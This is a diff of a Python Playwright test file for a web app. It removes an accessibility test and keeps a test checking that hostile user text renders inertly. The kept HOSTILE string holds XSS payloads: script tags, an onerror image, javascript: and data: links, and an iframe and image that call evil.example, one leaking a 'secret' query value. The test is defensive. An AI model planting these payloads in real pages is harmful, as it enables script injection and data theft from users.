@@ -1,28 +1,15 @@
-"""Nothing anybody writes can run or leave; every page can be used by everybody."""
+"""Nothing anybody writes can run or leave."""
 
 from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
-import pytest
 from playwright.sync_api import expect
 
 if TYPE_CHECKING:
-    from collections.abc import Callable
-
     from playwright.sync_api import Page, Request
 
     from tests.browser.office_server import OfficeServer
-
-PAGES = (
-    "",
-    "/feed",
-    "/board",
-    "/files?agent=developer",
-    "/dm/pm",
-    "/channels/general",
-    "/search?text=page",
-)
 
 HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
 <style>body{display:none}</style><iframe src="https://evil.example"></iframe>
@@ -30,25 +17,6 @@ HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked
 ![pixel](https://evil.example/p.png?q=secret) [link](javascript:window.hacked=1)
 [data](data:text/html,<script>window.hacked=1</script>)
 """
-
-
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-@pytest.mark.parametrize("path", PAGES)
-def test_a_page_has_no_fault_of_accessibility(
-    path: str,
-    scheme: str,
-    signed_in: Callable[..., Page],
-    office: OfficeServer,
-    axe: Callable[[Page], list[str]],
-) -> None:
-    """Axe finds nothing in any page, light or dark.
-
-    Demanded by: PLAT-5.
-    """
-    page = signed_in(color_scheme=scheme)
-    page.goto(f"{office.base}/o/landing-page{path}")
-    page.get_by_role("heading", level=1).wait_for(state="attached")
-    assert axe(page) == []
 
 
 def test_hostile_text_is_shown_and_does_nothing(ada: Page, office: OfficeServer) -> None:
